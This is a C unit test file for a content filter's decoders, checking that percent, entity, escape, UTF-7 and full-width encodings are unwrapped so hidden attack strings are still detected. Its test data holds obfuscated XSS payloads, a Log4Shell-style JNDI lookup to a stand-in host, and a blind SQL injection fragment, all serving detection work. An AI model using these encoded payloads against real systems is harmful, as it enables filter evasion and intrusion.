/** What is looked at of a long form: all that its text does not show, and little else. */
#include "filters/core/codec.h"
#include "filters/core/parts.h"
#include "tests/unit/filter_case.h"

#define ROOM ((size_t)1 << 17)

static struct pen_arena *arena;
static char memory[ROOM];

static int set_up(void **state)
{
    (void)state;
    return pen_arena_create((size_t)64 << 20, 65536, &arena) == PEN_OK ? 0 : -1;
}

static int tear_down(void **state)
{
    (void)state;
    pen_arena_destroy(arena);
    return 0;
}

/* xorshift (Marsaglia 2003): the same texts each time. */
static uint32_t draw(uint32_t *seed, uint32_t below)
{
    *seed ^= *seed << 13;
    *seed ^= *seed >> 17;
    *seed ^= *seed << 5;
    return *seed % below;
}

static void put_prose(struct pen_buf *buf, size_t bytes, uint32_t *seed)
{
    static const char *const words[] = {"the ",  "order ",  "was ",     "sent, ",
                                        "a ",    "letter ", "again.\n", "to ",
                                        "10 x ", "where ",  "=",        "----------"};
    const size_t end = buf->len + bytes;
    while (buf->len < end) {
        pen_buf_put(buf, pen_str_from_c(words[draw(seed, PEN_COUNT_OF(words))]));
    }
}

/* Prose with `encoded` in it so many times. */
static struct pen_str text_with(struct pen_str encoded, size_t times, size_t apart, uint32_t seed)
{
    struct pen_buf buf = pen_buf_over(memory, sizeof(memory));
    put_prose(&buf, apart, &seed);
    for (size_t i = 0; i < times; i++) {
        pen_buf_put(&buf, encoded);
        put_prose(&buf, apart, &seed);
    }
    assert_false(buf.full);
    return pen_buf_str(&buf);
}

typedef enum pen_status codec(struct pen_str in, struct pen_arena *arena, struct pen_str *out);

static enum pen_status percent(struct pen_str in, struct pen_arena *from, struct pen_str *out)
{
    return pen_codec_percent_lenient(in, false, from, out);
}

static const struct {
    const char *why;
    codec *decode;
    struct pen_str encoded;
} codecs[] = {
    {"percent", percent, PEN_STR("it%27s")},
    {"percent, many", percent, PEN_STR("%3c%73%63%72%69%70%74%3e%20%61%6c%65%72%74%28%31%29")},
    {"percent-u", pen_codec_percent_u, PEN_STR("%u0027")},
    {"entity", pen_codec_entity, PEN_STR("a&lt;b")},
    {"escape", pen_codec_escape, PEN_STR("\\u0027 \\\n")},
    {"UTF-7, which makes it longer", pen_codec_utf7, PEN_STR("+ADwAPABZAE4-+MLgwuDC4MLgwuDC4-")},
    {"fold", pen_codec_fold, PEN_STR("\xef\xbc\x9cx")},
    {"zeros, which only leaves out", pen_codec_zeros, PEN_STR("a\0b\0c")},
};

static bool is_within(const struct pen_parts *parts, size_t start, size_t end)
{
    for (size_t i = 0; i < parts->count; i++) {
        if (parts->spans[i].start <= start && end <= parts->spans[i].end) return true;
    }
    return false;
}

static void every_stretch_is_shown_in_a_part_or_in_the_text(void **state)
{
    (void)state;
    for (size_t i = 0; i < PEN_COUNT_OF(codecs); i++) {
        for (uint32_t seed = 1; seed <= 4; seed++) {
            const struct pen_str text = text_with(codecs[i].encoded, seed, 5000 * seed, seed);
            struct pen_str form;
            struct pen_parts parts;
            assert_int_equal(codecs[i].decode(text, arena, &form), PEN_OK);
            if (!pen_parts_find(text, form, &parts)) fail_msg("%s: no parts", codecs[i].why);
            if (parts.count == 0) fail_msg("%s: nothing differs", codecs[i].why);
            for (size_t at = 0; at + PEN_PARTS_REACH <= form.len; at += 61) {
                if (is_within(&parts, at, at + PEN_PARTS_REACH)) continue;
                const struct pen_str stretch = pen_str_slice(form, at, at + PEN_PARTS_REACH);
                if (pen_str_find_str(text, stretch) < text.len) continue;
                fail_msg("%s: %zu to %zu are shown nowhere", codecs[i].why, at,
                         at + PEN_PARTS_REACH);
            }
        }
    }
}

static void parts_are_apart_and_begin_with_a_word(void **state)
{
    (void)state;
    const struct pen_str text = text_with(PEN_S("it%27s"), 4, 6000, 7);
    struct pen_str form;
    struct pen_parts parts;
    assert_int_equal(percent(text, arena, &form), PEN_OK);
    assert_true(pen_parts_find(text, form, &parts));
    assert_int_equal(parts.count, 4);
    size_t before = 0;
    for (size_t i = 0; i < parts.count; i++) {
        const struct pen_span span = parts.spans[i];
        const struct pen_str part = pen_str_slice(form, span.start, span.end);
        assert_true(span.start >= before);
        assert_true(part.len <= 2 * PEN_PARTS_REACH + 256);
        assert_true(pen_is_alpha(part.ptr[0]));
        assert_true(form.ptr[span.start - 1] == ' ');
        assert_true(pen_str_find_str(part, PEN_S("it's")) < part.len);
        before = span.end + 1;
    }
}

static void forms_that_cost_little_or_differ_in_much_are_whole(void **state)
{
    (void)state;
    const struct {
        const char *why;
        struct pen_str encoded;
        size_t times;
        size_t apart;
    } rows[] = {
        {"short", PEN_STR("%27"), 1, 2000},
        {"half of it differs", PEN_STR("%27"), 20, 2000},
        {"it differs everywhere", PEN_STR("%27%27%27%27"), 4000, 1},
    };
    for (size_t i = 0; i < PEN_COUNT_OF(rows); i++) {
        const struct pen_str text = text_with(rows[i].encoded, rows[i].times, rows[i].apart, 3);
        struct pen_str form;
        struct pen_parts parts;
        assert_int_equal(percent(text, arena, &form), PEN_OK);
        if (pen_parts_find(text, form, &parts)) fail_msg("%s", rows[i].why);
    }
}

/* Twenty kilobytes of prose around a text. */
static struct pen_str in_prose(struct pen_str text)
{
    uint32_t seed = 5;
    struct pen_buf buf = pen_buf_over(memory, sizeof(memory));
    put_prose(&buf, 10000, &seed);
    pen_buf_byte(&buf, '\n');
    pen_buf_put(&buf, text);
    pen_buf_byte(&buf, '\n');
    put_prose(&buf, 10000, &seed);
    assert_false(buf.full);
    return pen_buf_str(&buf);
}

#define LONG_COMMENT                                                                              \
    "/* a comment that goes on and on and on and on and on and on and on and on and on and on "   \
    "and on and on and on and on and on and on and on and on and on and on and on and on and on " \
    "and on and on and on and on and on and on and on and on and on and on and on and on and on " \
    "and on and on and on and on and on and on and on and on and on and on and on and on and on " \
    "and on and on and on and on and on and on and on and on and on and on and on and on and on " \
    "*/"

#define SCRIPT "<script>alert(1)</script>"
#define LOOKUP "${jndi:ldap://a.example/x}"

/* As sure as if nothing of it were encoded. */
static void what_only_a_form_shows_is_found_in_a_long_text(void **state)
{
    (void)state;
    const struct {
        const char *why;
        struct pen_str text;
        struct pen_str plain;
        const char *filter;
    } rows[] = {
        {"percent", PEN_STR("%3cscript>alert(1)</script>"), PEN_STR(SCRIPT), "xss"},
        {"percent twice", PEN_STR("%253cscript>alert(1)</script>"), PEN_STR(SCRIPT), "xss"},
        {"entity", PEN_STR("&lt;script>alert(1)&lt;/script>"), PEN_STR(SCRIPT), "xss"},
        {"escape", PEN_STR("$\\u007bjndi:ldap://a.example/x}"), PEN_STR(LOOKUP), "jndi"},
        {"escape and percent", PEN_STR("$\\u007b%6andi:ldap://a.example/x}"), PEN_STR(LOOKUP),
         "jndi"},
        {"entity in percent", PEN_STR("%26lt;script>alert(1)%26lt;/script>"), PEN_STR(SCRIPT),
         "xss"},
        {"UTF-7", PEN_STR("+ADw-script+AD4-alert(1)+ADw-/script+AD4-"), PEN_STR(SCRIPT), "xss"},
        {"full width", PEN_STR("\xef\xbc\x84{jndi:ldap://a.example/x}"), PEN_STR(LOOKUP), "jndi"},
        {"a letter", PEN_STR("<scr%69pt>alert(1)</script>"), PEN_STR(SCRIPT), "xss"},
        {"far from what is encoded", PEN_STR("%3cscript>" LONG_COMMENT "alert(1)</script>"),
         PEN_STR("<script>" LONG_COMMENT "alert(1)</script>"), "xss"},
    };
    struct filter_case it;
    filter_case_open(&it, NULL);
    for (size_t i = 0; i < PEN_COUNT_OF(rows); i++) {
        (void)filter_case_text(&it, in_prose(rows[i].plain));
        const uint32_t plain = filter_case_score(&it, rows[i].filter);
        const struct pen_str text = in_prose(rows[i].text);
        (void)filter_case_text(&it, text);
        const uint32_t score = filter_case_score(&it, rows[i].filter);
        if (plain == 0 || score < plain) fail_msg("%s: %u, %u", rows[i].why, score, plain);
        if (it.event.leaf_bytes > 2 * text.len) {
            fail_msg("%s: %zu bytes of leaves", rows[i].why, it.event.leaf_bytes);
        }
    }
    filter_case_close(&it);
}

static void forms_share_what_they_have_in_common(void **state)
{
    (void)state;
    uint32_t seed = 9;
    struct pen_buf buf = pen_buf_over(memory, sizeof(memory));
    put_prose(&buf, 8000, &seed);
    pen_buf_put(&buf, PEN_S("a%27b "));
    put_prose(&buf, 8000, &seed);
    pen_buf_put(&buf, PEN_S("a&lt;b "));
    put_prose(&buf, 8000, &seed);
    struct filter_case it;
    filter_case_open(&it, NULL);
    (void)filter_case_text(&it, pen_buf_str(&buf));
    assert_int_equal(it.event.leaf_count, 3); /* the text and two parts, for four forms */
    const struct pen_leaf *const part = pen_event_leaf(&it.event, 1);
    assert_true(part->is_part);
    assert_int_equal(part->coding, PEN_CODING_PERCENT);
    assert_ptr_equal(part->from, pen_event_leaf(&it.event, 0));
    filter_case_close(&it);
}

/* A manual with an example of code; the part alone would be no prose. */
static void a_part_is_prose_where_its_text_is(void **state)
{
    (void)state;
    char code[2400];
    struct pen_buf buf = pen_buf_over(code, sizeof(code));
    for (size_t i = 0; i < 40; i++) {
        pen_buf_put(&buf, PEN_S("{[(1+2)*3,4,5,6,7,8]}\n"));
    }
    pen_buf_put(&buf, PEN_S("1%20and ascii(user())>64 --\n"));
    for (size_t i = 0; i < 40; i++) {
        pen_buf_put(&buf, PEN_S("{[(1+2)*3,4,5,6,7,8]}\n"));
    }
    assert_false(buf.full);
    struct filter_case it;
    filter_case_open(&it, NULL);
    (void)filter_case_text(&it, in_prose(pen_buf_str(&buf)));
    for (uint32_t i = 0; i < it.scan.finding_count; i++) {
        assert_int_equal(it.scan.findings[i].measure, PEN_MEASURE_PROSE);
    }
    filter_case_close(&it);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(every_stretch_is_shown_in_a_part_or_in_the_text),
        cmocka_unit_test(parts_are_apart_and_begin_with_a_word),
        cmocka_unit_test(forms_that_cost_little_or_differ_in_much_are_whole),
        cmocka_unit_test(what_only_a_form_shows_is_found_in_a_long_text),
        cmocka_unit_test(forms_share_what_they_have_in_common),
        cmocka_unit_test(a_part_is_prose_where_its_text_is),
    };
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
